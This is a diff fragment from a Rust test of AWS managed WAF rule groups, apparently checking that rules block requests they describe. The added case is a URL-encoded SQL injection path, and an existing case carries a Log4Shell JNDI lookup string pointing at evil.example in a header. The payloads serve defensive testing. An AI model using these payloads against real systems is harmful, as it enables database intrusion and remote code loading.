@@ -1242,6 +1242,12 @@ fn aws_managed_rule_groups_block_what_their_rules_describe() {
             "SQLiExtendedPatterns_QUERYARGUMENTS",
         ),
         (
+            "/prod/items/1%27%20or%20%271%27%3D%271",
+            "",
+            vec![],
+            "SQLi_URIPATH",
+        ),
+        (
             "/prod/items",
             "",
             vec![("x-api-version", "${jndi:ldap://evil.example/a}")],
